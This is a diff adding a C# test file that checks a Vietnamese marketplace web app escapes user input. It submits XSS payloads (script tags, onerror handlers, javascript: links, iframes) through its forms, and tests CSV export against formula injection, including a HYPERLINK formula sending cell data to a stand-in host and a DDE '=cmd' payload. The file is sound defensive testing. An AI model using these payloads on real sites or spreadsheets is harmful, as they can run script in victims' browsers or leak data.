@@ -1,0 +1,237 @@
+using System.IO.Compression;
+using System.Net;
+using AngleSharp.Dom;
+using Cho40.Tests.Infrastructure;
+using Cho40.Tests.Storefront;
+using Dapper;
+using Npgsql;
+
+namespace Cho40.Tests.Security;
+
+/// <summary>
+/// Script in every text field people type, submitted through the real forms, comes back as text on every page that
+/// shows it (owner pages, shop, trace page, admin pages, order page), and spreadsheet formulas in exported CSV
+/// cells are neutralised.
+/// </summary>
+public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixture>
+{
+    private const string Payload = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>";
+    private Cho40App App => fixture.App;
+
+    /// <summary>The page has no element the payload would have produced, and (when it shows it) shows it as text.</summary>
+    private static async Task<IDocument> AssertEscapedAsync(PageClient client, string url, bool mustShow = true)
+    {
+        var (response, page) = await client.GetPageAsync(url);
+        Assert.True(response.StatusCode == HttpStatusCode.OK, $"GET {url} → {(int)response.StatusCode}");
+        AssertNoInjectedMarkup(page, url);
+        if (mustShow) Assert.True(page.Body!.TextContent.Contains("<script>alert(1)</script>"), $"{url} does not show the payload as text");
+        return page;
+    }
+
+    private static void AssertNoInjectedMarkup(IDocument page, string url)
+    {
+        Assert.False(page.QuerySelectorAll("script").Any(s => s.TextContent.Contains("alert", StringComparison.Ordinal)), $"{url}: script element from user text");
+        Assert.Empty(page.QuerySelectorAll("img[src=x]"));
+        var withHandlers = page.All.Where(e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))).ToList();
+        Assert.True(withHandlers.Count == 0, $"{url}: elements with on* attributes: {string.Join(", ", withHandlers.Select(e => e.OuterHtml[..Math.Min(80, e.OuterHtml.Length)]))}");
+        Assert.Empty(page.QuerySelectorAll("a[href^='javascript:' i]"));
+    }
+
+    private async Task<PageClient> SignedInAsync(string phone)
+    {
+        var client = App.NewClient();
+        await client.SignInAsync(phone);
+        return client;
+    }
+
+    private async Task<T> ScalarAsync<T>(string sql, object? args = null)
+    {
+        await using var db = new NpgsqlConnection(App.ConnectionString);
+        return (await db.ExecuteScalarAsync<T>(sql, args))!;
+    }
+
+    [Fact]
+    public async Task Sign_up_name_and_seller_application_are_escaped_on_the_account_and_admin_pages()
+    {
+        using var person = App.NewClient();
+        Assert.Equal(HttpStatusCode.Redirect, (await person.SubmitFormAsync("/Account/SignUp", "main form", new Dictionary<string, string>
+        {
+            ["Input.DisplayName"] = "Nông " + Payload, ["Input.Phone"] = "0977000111",
+            ["Input.Password"] = "mat-khau-123", ["Input.ConfirmPassword"] = "mat-khau-123",
+        })).StatusCode);
+        await person.SignInAsync("0977000111", "mat-khau-123");
+        await AssertEscapedAsync(person, "/Account");
+
+        var applied = await person.SubmitFormAsync("/Seller/Apply", "main form", new Dictionary<string, string>
+        {
+            ["Input.Name"] = "Hộ " + Payload, ["Input.Kind"] = "household", ["Input.ProvinceCode"] = "19",
+            ["Input.CommuneCode"] = ShopHelpers.TanCuongCommune, ["Input.AddressLine"] = Payload, ["Input.Description"] = Payload,
+        });
+        Assert.Equal(HttpStatusCode.Redirect, applied.StatusCode);
+        using var admin = await SignedInAsync("0900000001");
+        await AssertEscapedAsync(admin, "/Admin/Sellers");
+        await AssertEscapedAsync(admin, "/Admin", mustShow: false);
+    }
+
+    [Fact]
+    public async Task Stall_name_and_goods_are_escaped_on_the_stall_pages_and_the_market_sheet()
+    {
+        using var owner = await SignedInAsync("0900000004");
+        var stallId = await ScalarAsync<long>("SELECT s.id FROM stalls s JOIN markets m ON m.id = s.market_id WHERE m.slug = 'cho-thai' AND s.stall_number = 'A01'");
+        var saved = await owner.SubmitFormAsync($"/Stall/Edit/{stallId}", "main form", new Dictionary<string, string>
+        {
+            ["Input.Name"] = Payload, ["Input.Goods"] = Payload,
+        });
+        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
+        await AssertEscapedAsync(owner, "/Stall");
+        await AssertEscapedAsync(owner, $"/Stall/{stallId}/Screen");
+        await AssertEscapedAsync(owner, $"/Stall/{stallId}/Sign");
+        await AssertEscapedAsync(owner, $"/Stall/Edit/{stallId}", mustShow: false);
+
+        // A refused holder name is echoed back into the form: as an attribute value, not markup.
+        var refused = await owner.SubmitFormAsync($"/Stall/Edit/{stallId}", "main form", new Dictionary<string, string> { ["Input.AccountHolder"] = Payload });
+        Assert.Equal(HttpStatusCode.OK, refused.StatusCode);
+        AssertNoInjectedMarkup(await PageClient.ParseAsync(refused), "refused stall form");
+
+        using var manager = await SignedInAsync("0900000002");
+        var market = await ScalarAsync<long>("SELECT id FROM markets WHERE slug = 'cho-thai'");
+        await AssertEscapedAsync(manager, $"/Market/{market}/Signs");
+    }
+
+    [Fact]
+    public async Task Product_name_and_Markdown_description_are_escaped_in_the_shop_search_and_seller_pages()
+    {
+        using var seller = await SignedInAsync("0900000003");
+        var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
+        var created = await seller.SubmitFormAsync("/Seller/Products/New", "main form.form", new Dictionary<string, string>
+        {
+            ["Input.Name"] = "Chè độc " + Payload, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "kg",
+            ["Input.Price"] = "100000", ["Input.Stock"] = "5", ["Input.OtherCertifications"] = Payload,
+            ["Input.Description"] = Payload + "\n\n[bấm vào đây](javascript:alert(1)) <a href=\"javascript:alert(1)\">x</a> <iframe src=//x></iframe>",
+        });
+        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
+        var id = long.Parse(created.Headers.Location!.OriginalString.Split('/').Last());
+        var (_, edit) = await seller.GetPageAsync($"/Seller/Products/Edit/{id}");
+        Assert.Equal(HttpStatusCode.Redirect, (await seller.SubmitAsync(edit, "form[action*='handler=Publish']", new Dictionary<string, string>())).StatusCode);
+        var slug = await ScalarAsync<string>("SELECT slug FROM products WHERE id = @id", new { id });
+
+        await AssertEscapedAsync(seller, $"/Seller/Products/Edit/{id}", mustShow: false);
+        await AssertEscapedAsync(seller, "/Seller/Products");
+        using var shopper = App.NewClient();
+        var product = await AssertEscapedAsync(shopper, $"/san-pham/{slug}");
+        Assert.Empty(product.QuerySelectorAll("iframe"));
+        await AssertEscapedAsync(shopper, "/search?q=che+doc");
+        await AssertEscapedAsync(shopper, "/nguoi-ban/htx-che-tan-cuong");
+        // The search box itself: the query is shown back in the box and the heading.
+        await AssertEscapedAsync(shopper, "/search?q=" + Uri.EscapeDataString(Payload));
+    }
+
+    [Fact]
+    public async Task Trace_event_notes_and_actor_are_escaped_on_the_seller_and_public_trace_pages()
+    {
+        using var seller = await SignedInAsync("0900000003");
+        var batch = await ScalarAsync<long>("SELECT id FROM trace_batches WHERE code = 'TCDB25AQ'");
+        var added = await seller.SubmitFormAsync($"/Seller/Trace/Batch/{batch}", "#event-form", new Dictionary<string, string>
+        {
+            ["Input.Kind"] = "inspection", ["Input.OccurredAt"] = App.Clock.GetUtcNow().AddHours(7).AddMinutes(-5).ToString("yyyy-MM-ddTHH:mm"),
+            ["Input.ProvinceCode"] = "19", ["Input.Actor"] = Payload, ["Input.Note"] = Payload,
+        });
+        Assert.Equal(HttpStatusCode.Redirect, added.StatusCode);
+        await AssertEscapedAsync(seller, $"/Seller/Trace/Batch/{batch}");
+        using var shopper = App.NewClient();
+        await AssertEscapedAsync(shopper, "/t/TCDB25AQ");
+    }
+
+    [Fact]
+    public async Task Checkout_name_address_and_note_are_escaped_on_the_order_seller_and_admin_pages()
+    {
+        using var shopper = App.NewClient();
+        await ShopHelpers.AddToCartAsync(shopper, await ScalarAsync<string>(
+            "SELECT p.slug FROM products p JOIN sellers s ON s.id = p.seller_id WHERE s.slug = 'htx-che-tan-cuong' AND p.status = 'published' AND p.stock > 5 ORDER BY p.id LIMIT 1"));
+        var values = ShopHelpers.ValidCheckout();
+        values["Input.Name"] = "Khách " + Payload;
+        values["Input.AddressLine"] = Payload;
+        values["Input.Note"] = Payload;
+        var placed = await shopper.SubmitFormAsync("/thanh-toan", "main form", values);
+        Assert.Equal(HttpStatusCode.Redirect, placed.StatusCode);
+        var orderPage = placed.Headers.Location!.OriginalString;
+        await AssertEscapedAsync(shopper, orderPage);
+        var orderId = await ScalarAsync<long>("SELECT max(id) FROM orders");
+        var groupToken = await ScalarAsync<string>("SELECT g.access_token FROM orders o JOIN checkout_groups g ON g.id = o.checkout_group_id WHERE o.id = @orderId", new { orderId });
+
+        using var seller = await SignedInAsync("0900000003");
+        await AssertEscapedAsync(seller, $"/Seller/Orders/{orderId}");
+        await AssertEscapedAsync(seller, "/Seller/Orders", mustShow: false);
+        using var admin = await SignedInAsync("0900000001");
+        await AssertEscapedAsync(admin, $"/Admin/Orders/{orderId}");
+        await AssertEscapedAsync(admin, "/Admin/Orders", mustShow: false);
+        await AssertEscapedAsync(shopper, $"/don-hang/nhom/{groupToken}", mustShow: false);
+    }
+
+    [Fact]
+    public async Task Validation_errors_echo_what_was_typed_as_text()
+    {
+        using var client = App.NewClient();
+        var response = await client.SubmitFormAsync("/Account/SignIn", "main form", new Dictionary<string, string>
+        {
+            ["Input.Phone"] = Payload, ["Input.Password"] = Payload,
+        });
+        AssertNoInjectedMarkup(await PageClient.ParseAsync(response), "sign-in");
+        var signUp = await client.SubmitFormAsync("/Account/SignUp", "main form", new Dictionary<string, string>
+        {
+            ["Input.DisplayName"] = Payload, ["Input.Phone"] = Payload, ["Input.Password"] = "x", ["Input.ConfirmPassword"] = "y",
+        });
+        AssertNoInjectedMarkup(await PageClient.ParseAsync(signUp), "sign-up");
+    }
+
+    [Fact]
+    public async Task Exported_csv_cells_cannot_run_as_spreadsheet_formulas_and_import_back_unchanged()
+    {
+        using var seller = await SignedInAsync("0900000007");
+        var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
+        const string formulaName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Chè\")";
+        const string formulaDescription = "-2+3 @SUM(A1) trà ngon";
+        var created = await seller.SubmitFormAsync("/Seller/Products/New", "main form.form", new Dictionary<string, string>
+        {
+            ["Input.Name"] = formulaName, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "+kg",
+            ["Input.Price"] = "100000", ["Input.Description"] = formulaDescription,
+        });
+        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
+
+        var csv = await seller.Http.GetStringAsync("/Seller/Products/Export?format=csv");
+        var cells = csv.Split(["\r\n"], StringSplitOptions.RemoveEmptyEntries).Skip(1)
+            .SelectMany(line => line.Split(',')).Select(c => c.TrimStart('"')).ToList();
+        Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
+        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@".Contains(c[0]));
+
+        // The guard is undone on import: the exported file imports back without changing the product.
+        var content = new MultipartFormDataContent();
+        var (_, importPage) = await seller.GetPageAsync("/Seller/Products/Import");
+        content.Add(new StringContent(importPage.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!), "__RequestVerificationToken");
+        content.Add(new ByteArrayContent(System.Text.Encoding.UTF8.GetBytes(csv)), "file", "export.csv");
+        var imported = await seller.Http.PostAsync("/Seller/Products/Import", content);
+        Assert.True(imported.StatusCode is HttpStatusCode.Redirect or HttpStatusCode.OK);
+        Assert.Equal(1, await ScalarAsync<int>("SELECT count(*) FROM products WHERE name = @formulaName AND unit = '+kg' AND description_md = @formulaDescription",
+            new { formulaName, formulaDescription }));
+
+        // XLSX keeps text cells as text (no formula elements), so it needs no guard.
+        var xlsx = await seller.Http.GetByteArrayAsync("/Seller/Products/Export?format=xlsx");
+        using var zip = new ZipArchive(new MemoryStream(xlsx));
+        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
+        {
+            using var reader = new StreamReader(entry.Open());
+            Assert.DoesNotContain("<f>", await reader.ReadToEndAsync());
+        }
+    }
+
+    [Fact]
+    public async Task The_bank_payout_file_neutralises_a_formula_in_an_account_name()
+    {
+        var today = DateOnly.FromDateTime(DateTime.Today);
+        var csv = Cho40.Db.Settlement.PayoutCsv(
+            new Cho40.Db.SettlementRun(1, "2026-W45", today, today, "completed", DateTimeOffset.UtcNow, 500, DateTimeOffset.UtcNow, DateTimeOffset.UtcNow, 1, 1, 100_000),
+            [new Cho40.Db.Payout(7, "HTX", 100_000, "970436", "0011004455667", "=cmd|'/c calc'!A1")]);
+        var text = System.Text.Encoding.UTF8.GetString(csv);
+        Assert.Contains(",'=CMD|'/C CALC'!A1,", text);
+    }
+}
